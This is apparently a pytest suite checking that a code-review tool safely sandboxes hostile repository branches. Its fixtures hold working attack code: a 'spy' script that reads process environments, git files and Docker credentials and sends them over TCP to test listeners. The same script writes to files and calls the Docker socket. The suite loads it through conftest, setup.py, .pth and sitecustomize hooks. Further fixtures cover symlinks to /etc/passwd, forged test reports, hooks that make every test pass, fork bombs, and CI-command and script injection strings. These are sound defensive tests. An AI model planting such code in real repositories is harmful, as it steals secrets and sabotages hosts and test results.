"""Hostile repositories reviewed by the real command: what it says, and what they did to the host."""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from pathlib import Path

import outside
import pytest
from markdown_it import MarkdownIt
from victims import PRICE, SLIP, TEST_PRICE, Files, Victim

pytestmark = [pytest.mark.engine, pytest.mark.thorough]

SPY = '''\
"""Runs wherever it is loaded: tells the host what it finds, and writes where it should not."""
import glob, os, socket

def spy(where):
    stage = "run" if os.path.isdir("/run/tryline") else "install"
    found = ["SPY", where, stage, str(os.getuid())]
    for path in [*glob.glob("/proc/*/environ"), *glob.glob("/repo/.git/*"), "/root/.docker/config.json"]:
        try:
            with open(path, "rb") as stream:
                found.append(stream.read(1 << 16).decode(errors="replace"))
        except OSError:
            pass
    for address in ADDRESSES:
        try:
            with socket.create_connection((address, TCP), 1) as made:
                made.sendall("|".join(found).encode())
        except OSError:
            pass
    for path in FILES + ["/var/run/docker.sock"]:
        try:
            with open(path, "a") as stream:
                stream.write("SPY was here")
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.connect("/var/run/docker.sock")
            made.sendall(b"POST /containers/prune HTTP/1.0\\r\\n\\r\\n")
            found.append("ENGINE")
    except OSError:
        pass
'''
CALL = "exec(open('/repo/spying.txt').read()); spy({!r})\n"
SETUP = (
    CALL.format("setup.py") + "from setuptools import setup\nsetup(name='victim', version='1', py_modules=[])\n"
)
BACKEND = CALL.format("build backend") + "from setuptools.build_meta import *\n"
PROJECT = """\
[build-system]
requires = ["setuptools"]
build-backend = "backend"
backend-path = ["."]

[project]
name = "victim"
version = "1"

[project.entry-points.pytest11]
evil = "evil"

[tool.setuptools]
py-modules = []

[tool.pytest.ini_options]
addopts = "-p evil"
"""
CONFTEST = """\
exec(open("/repo/spying.txt").read())
spy("conftest.py")

def pytest_configure(config):
    spy("pytest_configure")

def pytest_runtest_setup(item):
    spy("pytest_runtest_setup")
"""
SETTINGS = """\
endpoint:
  url: http://{address}:{tcp}/v1
  model: evil
image: evil:latest
test:
  paths: [nowhere]
"""


def test_what_loads_itself_everywhere_reaches_nothing_and_hides_nothing(tmp_path: Path) -> None:
    """conftest.py, plugins, entry points, build backends, sitecustomize and .pth files, settings of the branch,
    and a tree of links: the finding is told all the same."""
    canaries = {
        name: secrets.token_hex(12) for name in ("TRYLINE_ENDPOINT_KEY", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY")
    }
    marks = {tmp_path / "mark.txt": "untouched", tmp_path / "other.txt": "untouched"}
    for path, text in marks.items():
        path.write_text(text)
        path.chmod(0o666)
    victim = Victim(tmp_path)
    with outside.listening(tmp_path) as listeners:
        addresses = [address for address in listeners.addresses() if ":" not in address]
        spying = (
            f"ADDRESSES, TCP, FILES = {addresses!r}, {listeners.tcp}, {[str(path) for path in marks]!r}\n{SPY}"
        )
        evil: Files = {
            "spying.txt": spying,
            "conftest.py": CONFTEST,
            "evil.py": CALL.format("plugin"),
            "sitecustomize.py": CALL.format("sitecustomize"),
            "usercustomize.py": CALL.format("usercustomize"),
            "evil.pth": CALL.format("pth"),
            "setup.py": SETUP,
            "backend.py": BACKEND,
            "pyproject.toml": PROJECT,
            "tox.ini": "[pytest]\naddopts = -p evil\n",
            ".tryline.yml": SETTINGS.format(address=addresses[-1], tcp=listeners.tcp),
        }
        victim.repo.commit({"price.py": PRICE, "test_price.py": TEST_PRICE, "README.md": "x\n"}, "main")
        victim.repo.git("switch", "--quiet", "--create", "topic")
        for name, target in (("passwd.py", "/etc/passwd"), ("env.txt", "/proc/self/environ"), ("out", "../../x")):
            (victim.repo.path / name).symlink_to(target)
        victim.repo.commit({**evil, "price.py": SLIP}, "topic")
        told = victim.review("--fail-on", "high", **canaries)
        heard = list(listeners.heard)
    assert told.code == 1, told.stdout
    assert told.findings == ["price"]
    assert {path: path.read_text() for path in marks} == marks
    assert not [text for text in heard if "run|" in text or "|run" in text], "no network while anything is judged"
    for word in canaries.values():
        assert not [text for text in heard if word in text]
        assert word not in told.everything
    assert "root:x:0" not in told.everything and "ENGINE" not in told.everything
    assert told.left == ()


FORGED = """\
import json, os
from price import price

def test_price():
    assert price(200, 10) == 180

def test_free():
    names = ["test_price.py::test_price", "test_price.py::test_free"]
    for fd in range(3, 64):
        for name in names:
            end = {"event": "end", "id": name, "outcome": "passed", "seconds": 0.1}
            for event in (end, {"event": "finish", "code": 0}):
                try:
                    os.write(fd, (json.dumps(event) + "\\n").encode())
                except OSError:
                    pass
    print("===== 2 passed in 0.01s =====")
    open("junit.xml", "w").write("<testsuite tests='2' failures='0'/>")
    os._exit(0)
"""
HOOKS = """\
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    result = yield
    report = result.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""
GREEDY = """\
import os, signal, subprocess, time
from price import price

def test_price():
    assert price(200, 10) == 180

def test_daemon():
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(0.1)
        os._exit(0)

def test_memory():
    held = []
    while True:
        held.append(bytearray(50 << 20))

def test_forks():
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
WORDS = """\
import pytest
from price import price

BAD = "\\x1b[2J\\x1b]0;owned\\x07\\r\\n::error file=x.py::owned\\n::set-output name=a::b\\n##[error]x\\n" \\
    "</details><script>alert(1)</script> @all fixes #1 [a](https://evil) ![](//evil/x.png) \\u202e\\u200b"

@pytest.mark.parametrize("amount", [200], ids=[BAD])
def test_price(amount):
    print(BAD)
    assert price(amount, 10) == 180, BAD

def test_free():
    print(BAD)
    assert price(50, 0) == 50
"""


@pytest.fixture
def victim(tmp_path: Path) -> Iterator[Victim]:
    yield Victim(tmp_path)


def test_a_forged_report_and_a_good_exit_make_no_pass(victim: Victim) -> None:
    victim.branch({"price.py": PRICE, "test_price.py": TEST_PRICE}, {"price.py": SLIP, "test_price.py": FORGED})
    told = victim.review()
    assert told.code in (0, 3)
    if told.code == 0:
        assert told.findings == ["price"], "its honest test is red, whatever the other writes"
    verdicts = [f["suggestion"] for f in told.result["findings"]]
    assert told.code == 3 or verdicts, told.stdout
    assert told.left == ()


def test_hooks_of_the_branch_that_make_all_green_are_told(victim: Victim) -> None:
    """A branch can make its own tests lie. Then there is no finding, but no word of praise either, and the reader
    is told that what judges was changed."""
    victim.branch({"price.py": PRICE, "test_price.py": TEST_PRICE}, {"price.py": SLIP, "conftest.py": HOOKS})
    told = victim.review()
    assert told.findings == []
    for word in ("approve", "lgtm", "looks good", "verified", "safe"):
        assert word not in told.markdown.lower()
    assert "conftest.py" in told.markdown, told.markdown
    assert told.left == ()


def test_greedy_tests_cost_their_own_outcomes_alone(victim: Victim) -> None:
    victim.branch({"price.py": PRICE, "test_price.py": TEST_PRICE}, {"price.py": SLIP, "test_price.py": GREEDY})
    told = victim.review("--fail-on", "high", TRYLINE_TEST_SECONDS="10", TRYLINE_SANDBOX_MEMORY_MB="512")
    assert told.code in (1, 3), told.stdout
    if told.code == 1:
        assert told.findings == ["price"]
    assert told.left == ()


def commands(log: str) -> list[str]:
    """The lines that GitHub's runner takes for commands, but for those that switch them off and on."""
    found, stopped = [], ""
    for line in log.splitlines():
        word, _, rest = line.strip().removeprefix("::").partition("::")
        if stopped:
            stopped = "" if (word, rest) == (stopped, "") else stopped
        elif word == "stop-commands":
            stopped = rest
        elif line.lstrip().startswith(("::", "##[")):
            found.append(line)
    assert not stopped
    return found


CONTROL = {chr(n) for n in (*range(32), 127, *range(0x80, 0xA0))} - set("\n\t")


def test_words_of_the_repository_stay_words(victim: Victim) -> None:
    victim.branch({"price.py": PRICE, "test_price.py": WORDS}, {"price.py": SLIP})
    told = victim.review("--fail-on", "high", GITHUB_ACTIONS="true", CI="true")
    assert told.code == 1 and told.findings == ["price"], told.stderr
    assert commands(told.stdout) == commands(told.stderr) == [], "what a runner reads; no runner reads the page"
    for text in (told.stdout, told.stderr, told.markdown):
        assert not CONTROL & set(text)
        assert "\u202e" not in text and "\u200b" not in text
    active = [
        token
        for token in MarkdownIt("commonmark").parse(told.markdown)
        for token in (token, *(token.children or ()))
    ]
    assert not [t for t in active if t.type.startswith("html") and "script" in t.content]
    assert not [t for t in active if "evil" in str(t.attrs) or t.type == "image"]
    assert told.left == ()
